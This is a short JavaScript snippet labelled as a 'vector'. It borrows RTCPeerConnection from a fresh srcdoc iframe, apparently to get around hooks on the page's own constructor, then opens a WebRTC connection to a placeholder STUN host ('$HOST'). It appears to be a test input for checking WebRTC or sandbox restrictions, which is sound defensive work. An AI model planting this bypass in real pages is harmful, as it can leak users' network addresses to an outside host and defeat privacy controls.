// vector: a srcdoc frame's constructor
const frame = Object.assign(document.createElement("iframe"), { srcdoc: "<p>x" });
frame.onload = () => {
  const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:$HOST" }] });
  peer.createDataChannel("way");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
};
document.body.append(frame);
